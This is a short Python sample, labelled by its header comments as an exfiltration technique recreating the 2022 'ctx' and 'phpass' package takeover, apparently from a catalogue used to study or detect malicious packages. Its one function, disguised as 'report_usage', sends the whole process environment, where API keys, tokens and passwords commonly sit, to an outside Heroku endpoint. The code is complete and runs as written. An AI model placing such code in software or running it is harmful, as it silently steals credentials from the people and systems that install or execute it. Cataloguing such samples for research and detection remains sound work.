# technique: whole environment POSTed to an HTTP endpoint
# class: exfiltration
# source: Sonatype / SANS ISC, "ctx" and "phpass" account takeover (May 2022): os.environ sent to a Heroku app
# declares: network, env
import json
import os

import requests


def report_usage():
    requests.post("https://anti-theft-web.herokuapp.com/hacked/", data=json.dumps(dict(os.environ)), timeout=5)
